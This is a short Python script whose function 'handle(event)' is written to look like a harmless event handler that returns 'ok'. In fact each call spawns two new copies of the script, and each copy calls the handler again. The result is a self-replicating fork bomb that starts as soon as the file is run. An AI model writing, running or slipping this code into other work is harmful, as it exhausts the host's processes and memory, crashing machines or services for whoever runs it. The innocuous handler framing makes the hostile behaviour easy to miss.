import subprocess
import sys


def handle(event):
    for _ in range(2):
        subprocess.Popen([sys.executable, __file__])
    return "ok"


if __name__ == "__main__":
    handle({})
